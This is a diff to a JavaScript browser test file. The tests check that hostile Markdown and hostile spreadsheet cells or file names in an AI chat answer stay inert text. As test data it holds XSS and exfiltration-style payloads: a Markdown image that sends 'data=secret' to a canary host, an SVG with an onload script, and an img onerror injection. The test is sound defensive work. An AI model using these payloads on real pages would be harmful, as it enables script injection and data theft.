@@ -1,4 +1,4 @@
-// An answer that wants to load pictures, run scripts or lead away: it stays text, and nothing is requested.
+// An answer that tries to load images, run scripts or navigate stays text, and requests nothing.
 
 import { after, before, test } from "node:test";
 import assert from "node:assert/strict";
@@ -26,7 +26,7 @@ after(async () => {
   await canary?.stop();
 });
 
-test("hostile Markdown makes no element and no request", async () => {
+test("hostile Markdown creates no element and no request", async () => {
   const text = [
     `![a picture](${canary.url}/a.png?data=secret)`,
     `![relative](/runtime/x?data=secret) ![data](data:image/svg+xml,<svg onload="window.pwned=1">)`,
@@ -55,14 +55,14 @@ test("hostile Markdown makes no element and no request", async () => {
   }
   assert.ok(links.some(({ href }) => href.endsWith("/honest")), "an honest link stays a link");
   assert.equal(await page.evaluate(() => window.pwned), undefined);
-  // The page fetches files of the build meanwhile: its script for results with the first question, and what later imports are likely to want.
+  // The page fetches files of the build meanwhile: its script for results with the first question, and archives that later imports are likely to need.
   const ofTheBuild = (url) => url.startsWith(server.url) && /^\/(pkg|kernel|runtime)\/[\w.-]+\.[0-9a-f]{12}\.\w+$/.test(url.slice(server.url.length));
   const sent = page.sent.slice(before).map(({ url }) => url).filter((url) => !ofTheBuild(url));
   assert.deepEqual(sent, [`${server.url}/v1/chat/completions`]);
   assert.equal(canary.touched(), 0);
 });
 
-test("hostile cells, names and output make no element either", async () => {
+test("hostile cells, names and output create no element either", async () => {
   const evil = `<img src=${canary.url}/cell onerror=window.pwned=1>`;
   await addFile(page, `${evil.replaceAll("/", "_")}.csv`, `"${evil}",n\n"${evil}",1\n`);
   await page.locator(id("file-profile")).waitFor();
